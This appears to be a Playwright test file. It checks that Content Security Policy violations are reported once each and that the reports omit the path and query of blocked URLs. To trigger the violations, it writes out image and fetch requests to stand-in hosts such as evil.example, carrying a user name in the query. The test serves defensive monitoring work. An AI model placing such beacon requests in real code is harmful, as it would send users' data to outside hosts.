import { expect, test } from '../support/fixtures/test.ts';
import { expectMonitored } from './walk.ts';

test('violations of the content policy are reported once each, also those before monitoring is loaded', async ({
  page,
  control,
  guard,
  recorder,
  seed,
  site,
}) => {
  guard.expect(/Policy violation|Content Security Policy|content policy|request failed: .* csp/);
  recorder.alsoTo('https://evil.example', 'https://later.example');
  await site.switchTelemetryOn();
  await page.addInitScript(() =>
    document.addEventListener('readystatechange', () => {
      if (document.readyState === 'interactive' && location.protocol === 'http:')
        new Image().src = 'https://evil.example/early?name=Zulaikha';
    }),
  );
  await seed.session();
  await page.goto('/dashboard');
  await expectMonitored(page);
  await page.evaluate(async () => {
    // a page that is left earlier does not hear of the blocked request
    const blocked = new Promise<void>((resolve) =>
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        if (effectiveDirective === 'connect-src') resolve();
      }),
    );
    for (const path of ['one', 'two']) {
      new Image().src = `https://evil.example/${path}`;
      fetch(`https://later.example/${path}?name=Zulaikha`).catch(() => undefined);
    }
    await blocked;
  });
  await page.goto('about:blank');
  const reported = async () => (await control.reports()).flatMap(({ events }) => events).join('\n');
  const violations = async () =>
    [...(await reported()).matchAll(/"message":"((?:csp_violation|Blocked )[^"]*)/g)].map(([, text]) => text);
  await expect
    .poll(async () => (await violations()).sort(), { timeout: 20_000 })
    .toEqual(['Blocked https://evil.example by img-src', 'Blocked https://later.example by connect-src']);
  expect(await reported(), 'neither path nor query of what was blocked').not.toContain('Zulaikha');
});
